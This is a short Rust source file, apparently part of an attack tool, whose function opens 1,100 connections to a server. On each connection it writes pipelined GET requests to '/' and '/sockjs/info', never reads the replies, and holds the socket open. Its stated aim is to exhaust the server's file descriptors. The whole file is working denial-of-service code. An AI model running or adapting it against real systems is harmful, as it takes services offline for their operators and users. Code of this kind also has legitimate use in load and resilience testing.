//! Connections that request much and read nothing: a server that waits for them to read runs out of descriptors.

use std::io::Write as _;

use crate::attack::Attack;
use crate::http::request;

const CONNECTIONS: usize = 1_100;
const REQUESTS: usize = 100;

pub(super) fn flood(attack: &Attack) {
    let requests = ["/", "/sockjs/info"].map(|path| request("GET", path, "", "").repeat(REQUESTS));
    for text in requests.iter().cycle().take(CONNECTIONS) {
        let opened = attack.attempt(|| attack.route().dial_narrow());
        let Some(mut stream) = opened else { continue };
        // As much as goes into the socket at once: the rest of the requests is not needed.
        if stream.write(text.as_bytes()).is_ok_and(|written| written > 0) {
            attack.hold(stream);
        }
    }
}
